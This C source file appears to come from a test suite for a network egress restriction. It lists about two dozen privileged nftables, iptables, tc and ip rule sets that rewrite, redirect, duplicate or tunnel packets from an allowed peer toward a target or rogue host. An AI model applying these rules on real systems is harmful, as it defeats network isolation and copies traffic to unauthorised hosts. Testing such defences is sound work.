// SPDX-License-Identifier: GPL-2.0-only
/* What goes to an allowed address is rewritten, copied or sent elsewhere on its way out. */
#include "recipe.h"

static struct dest peer4(const struct attack_env *e)
{
	return dest4(e->peer4, e->port);
}

static int by_nft(const struct attack_env *e, const char *text, struct dest to)
{
	if (!nft_batch(e, text))
		return unmade("nft");
	return send_mark(e, open_socket(to.sa.sa_family, SOCK_DGRAM, 0), to);
}

static int by_iptables(const struct attack_env *e, const char *line, struct dest to)
{
	if (!command(e, line))
		return unmade("iptables");
	return send_mark(e, open_socket(to.sa.sa_family, SOCK_DGRAM, 0), to);
}

static int by_tc(const struct attack_env *e, const char *text, struct dest to)
{
	if (!tc_batch(e, text))
		return unmade("tc");
	return send_mark(e, open_socket(to.sa.sa_family, SOCK_DGRAM, 0), to);
}

static int nft_dnat(const struct attack_env *e)
{
	return by_nft(e,
		      "table ip atk {\nchain c { type nat hook output priority -100; "
		      "ip daddr @peer4 dnat to @target4; }\n}\n",
		      peer4(e));
}

static int nft_dnat6(const struct attack_env *e)
{
	return by_nft(e,
		      "table ip6 atk {\nchain c { type nat hook output priority -100; "
		      "ip6 daddr @peer6 dnat to @target6; }\n}\n",
		      dest6(e->peer6, e->port));
}

static int nft_loopback_dnat(const struct attack_env *e)
{
	sysctl_set("ipv4/conf/all/route_localnet", "1");
	return by_nft(e,
		      "table ip atk {\nchain c { type nat hook output priority -100; "
		      "ip daddr 127.0.0.9 dnat to @target4; }\n"
		      "chain d { type nat hook postrouting priority 100; masquerade; }\n}\n",
		      dest4(address4("127.0.0.9"), e->port));
}

static int nft_snat(const struct attack_env *e)
{
	return by_nft(e,
		      "table ip atk {\nchain c { type nat hook postrouting priority 100; "
		      "ip daddr @target4 snat to @peer4; }\n}\n",
		      target4(e));
}

/* The address is written over, and the route stays that of the peer. */
static int nft_mangle(const struct attack_env *e)
{
	if (!ip_batch(e, "neighbour replace @target4 lladdr @rogue_mac dev @dev nud permanent\n"))
		return unmade("ip");
	return by_nft(e,
		      "table ip atk {\nchain c { type filter hook output priority 0; "
		      "ip daddr @peer4 ip daddr set @target4; }\n}\n",
		      peer4(e));
}

#define TABLE77 "route add default via @rogue4 dev @dev table 77\n"

static int nft_mark(const struct attack_env *e)
{
	if (!ip_batch(e, "rule add fwmark 7 lookup 77\n" TABLE77))
		return unmade("ip rule");
	return by_nft(e,
		      "table ip atk {\nchain c { type route hook output priority -150; "
		      "ip daddr @target4 meta mark set 7; }\n}\n",
		      target4(e));
}

/* The hook on the device, behind all that is IP (Linux 5.16). */
static int nft_egress(const struct attack_env *e)
{
	return by_nft(e,
		      "table netdev atk {\nchain c { type filter hook egress device @dev "
		      "priority 0; ip daddr @peer4 ip daddr set @target4 "
		      "ether daddr set @rogue_mac; }\n}\n",
		      peer4(e));
}

static int nft_fwd(const struct attack_env *e)
{
	return by_nft(e,
		      "table netdev atk {\nchain c { type filter hook egress device @dev "
		      "priority 0; ip daddr @target4 ether daddr set @other_mac "
		      "fwd to @dev2; }\n}\n",
		      target4(e));
}

static int nft_dup_egress(const struct attack_env *e)
{
	return by_nft(e,
		      "table netdev atk {\nchain c { type filter hook egress device @dev "
		      "priority 0; ip daddr @target4 ether daddr set @other_mac "
		      "dup to @dev2 drop; }\n}\n",
		      target4(e));
}

/* Loopback is allowed: there the packet turns into one for the target, on another device. */
static int nft_loopback(const struct attack_env *e)
{
	return by_nft(e,
		      "table netdev atk {\nchain c { type filter hook ingress device lo "
		      "priority 0; udp dport @port ip saddr set @own4 ip daddr set @target4 "
		      "fwd ip to @rogue4 device @dev; }\n}\n",
		      dest4(address4("127.0.0.1"), e->port));
}

static int nft_dup(const struct attack_env *e)
{
	return by_nft(e,
		      "table ip atk {\nchain c { type filter hook postrouting priority 0; "
		      "ip daddr @target4 dup to @rogue4 device @dev; }\n}\n",
		      target4(e));
}

static int nft_bridge(const struct attack_env *e)
{
	if (!ip_batch(e, "link add atk address @own_mac type bridge mcast_snooping 0\n"
			 "address flush dev @dev\nlink set @dev master atk\nlink set atk up\n"
			 "address add @own4/24 dev atk\n"
			 "neighbour replace @gateway4 lladdr @gateway_mac dev atk nud permanent\n"
			 "route replace default via @gateway4 dev atk\n"))
		return unmade("bridge");
	return by_nft(e,
		      "table bridge atk {\nchain c { type filter hook postrouting priority 0; "
		      "ip daddr @target4 ether daddr set @rogue_mac; }\n}\n",
		      target4(e));
}

static int ipt_dnat(const struct attack_env *e)
{
	return by_iptables(e,
			   "iptables -t nat -A OUTPUT -d @peer4 -j DNAT --to-destination @target4",
			   peer4(e));
}

static int ipt_tee(const struct attack_env *e)
{
	return by_iptables(e,
			   "iptables -t mangle -A POSTROUTING -d @target4 -j TEE --gateway @rogue4",
			   target4(e));
}

#define EGRESS(to)                                                                                 \
	"qdisc add dev @dev clsact\n"                                                              \
	"filter add dev @dev egress protocol ip u32 match ip dst " to "/32 "
#define TO_HOST "action pedit ex munge eth dst set @rogue_mac "
#define TO_NET2 "action pedit ex munge eth dst set @other_mac pipe "

static int tc_pedit_mac(const struct attack_env *e)
{
	return by_tc(e, EGRESS("@target4") TO_HOST "\n", target4(e));
}

static int tc_pedit_ip(const struct attack_env *e)
{
	return by_tc(e,
		     EGRESS("@peer4") TO_HOST
		     "munge ip dst set @target4 pipe action csum ip and udp\n",
		     peer4(e));
}

static int tc_skbmod(const struct attack_env *e)
{
	return by_tc(e, EGRESS("@target4") "action skbmod set dmac @rogue_mac\n", target4(e));
}

static int tc_nat(const struct attack_env *e)
{
	return by_tc(e, EGRESS("@peer4") TO_HOST "pipe action nat ingress @peer4/32 @target4\n",
		     peer4(e));
}

static int tc_redirect(const struct attack_env *e)
{
	return by_tc(e, EGRESS("@target4") TO_NET2 "action mirred egress redirect dev @dev2\n",
		     target4(e));
}

static int tc_mirror(const struct attack_env *e)
{
	return by_tc(e,
		     EGRESS("@target4") TO_NET2 "action mirred egress mirror dev @dev2 pipe "
						"action drop\n",
		     target4(e));
}

static int tc_ifb(const struct attack_env *e)
{
	if (!ip_batch(e, "link add atk type ifb\nlink set atk up\n") ||
	    !tc_batch(e, "qdisc add dev atk clsact\n"
			 "filter add dev atk egress protocol ip u32 match u32 0 0 " TO_HOST "\n"))
		return unmade("ifb");
	return by_tc(e, EGRESS("@target4") "action mirred egress redirect dev atk\n", target4(e));
}

static int tc_loopback(const struct attack_env *e)
{
	return by_tc(e,
		     "qdisc add dev lo clsact\n"
		     "filter add dev lo egress protocol ip u32 match ip dst 127.0.0.9/32 "
		     "action pedit ex munge eth dst set @rogue_mac munge eth src set @own_mac "
		     "munge ip src set @own4 munge ip dst set @target4 pipe "
		     "action csum ip and udp pipe action mirred egress redirect dev @dev\n",
		     dest4(address4("127.0.0.9"), e->port));
}

/* Comes in again on the other device, as if somebody had sent it, and is forwarded; then its TTL is
 * less, and it goes. */
static int tc_reinject(const struct attack_env *e)
{
	sysctl_set("ipv4/ip_forward", "1");
	sysctl_set("ipv4/conf/all/accept_local", "1");
	if (!ip_batch(e, "rule add iif @dev2 lookup 77\n" TABLE77))
		return unmade("ip rule");
	return by_tc(e,
		     EGRESS("@target4") "match u8 64 0xff at 8 "
					"action mirred ingress redirect dev @dev2\n",
		     target4(e));
}

static int tc_tunnel_key(const struct attack_env *e)
{
	if (!ip_batch(e, "link add atk type vxlan external dstport 4789\nlink set atk up\n"))
		return unmade("vxlan");
	return by_tc(e,
		     EGRESS("@peer4") "action tunnel_key set src_ip @own4 dst_ip @target4 id 7 "
				      "dst_port 4789 pipe "
				      "action mirred egress redirect dev atk\n",
		     peer4(e));
}

#define ADMIN(id, text, by, code, more)                                                            \
	{                                                                                          \
		.name = id, .what = text, .stop = by, .needs = NEEDS_NET_ADMIN,                    \
		.flags = ATTACK_DIRTY | (more), .run = code,                                       \
	}

const struct attack attacks_rewrite[] = {
	ADMIN("nft_dnat", "nftables: the peer's address becomes the target's", STOP_I1, nft_dnat,
	      0),
	ADMIN("nft_dnat6", "... IPv6", STOP_I1, nft_dnat6, 0),
	ADMIN("nft_lo_dnat", "... from a loopback address", STOP_I1, nft_loopback_dnat, 0),
	ADMIN("nft_snat", "nftables: the peer's address as source", STOP_I1, nft_snat, 0),
	ADMIN("nft_mangle", "nftables: address written over, route unchanged", STOP_I1, nft_mangle,
	      0),
	ADMIN("nft_mark", "nftables: a mark that chooses another route", STOP_I1, nft_mark,
	      ATTACK_GATEWAY),
	ADMIN("nft_egress", "nftables on the device: address and MAC written over", STOP_I3,
	      nft_egress, 0),
	ADMIN("nft_fwd", "nftables on the device: to the other network", STOP_I3, nft_fwd,
	      ATTACK_GATEWAY),
	ADMIN("nft_dup_egress", "... a copy", STOP_I3, nft_dup_egress, ATTACK_GATEWAY),
	ADMIN("nft_loopback", "nftables: a loopback packet goes out by eth0", STOP_I3, nft_loopback,
	      0),
	ADMIN("nft_dup", "nftables: a copy by way of the host", STOP_I3, nft_dup, ATTACK_GATEWAY),
	ADMIN("nft_bridge", "nftables on a bridge: MAC written over", STOP_I3, nft_bridge,
	      ATTACK_GATEWAY),
	ADMIN("ipt_dnat", "iptables: the peer's address becomes the target's", STOP_I1, ipt_dnat,
	      0),
	ADMIN("ipt_tee", "iptables: a copy by way of the host", STOP_I3, ipt_tee, ATTACK_GATEWAY),
	ADMIN("tc_pedit_mac", "tc: the host's MAC instead of the gateway's", STOP_I3, tc_pedit_mac,
	      ATTACK_GATEWAY),
	ADMIN("tc_pedit_ip", "tc: address and MAC written over", STOP_I3, tc_pedit_ip, 0),
	ADMIN("tc_skbmod", "tc skbmod: the host's MAC", STOP_I3, tc_skbmod, ATTACK_GATEWAY),
	ADMIN("tc_nat", "tc nat: the peer's address becomes the target's", STOP_I3, tc_nat, 0),
	ADMIN("tc_redirect", "tc: to the other network", STOP_I3, tc_redirect, ATTACK_GATEWAY),
	ADMIN("tc_mirror", "... a copy", STOP_I3, tc_mirror, ATTACK_GATEWAY),
	ADMIN("tc_ifb", "tc: by way of an ifb, where the MAC is written over", STOP_I3, tc_ifb,
	      ATTACK_GATEWAY),
	ADMIN("tc_loopback", "tc: a loopback packet goes out by eth0", STOP_I3, tc_loopback, 0),
	ADMIN("tc_reinject", "tc: a packet comes in again, and is forwarded", STOP_I3, tc_reinject,
	      ATTACK_GATEWAY),
	ADMIN("tc_tunnel_key", "tc: into a VXLAN to the target", STOP_I3, tc_tunnel_key, 0),
	{ 0 },
};
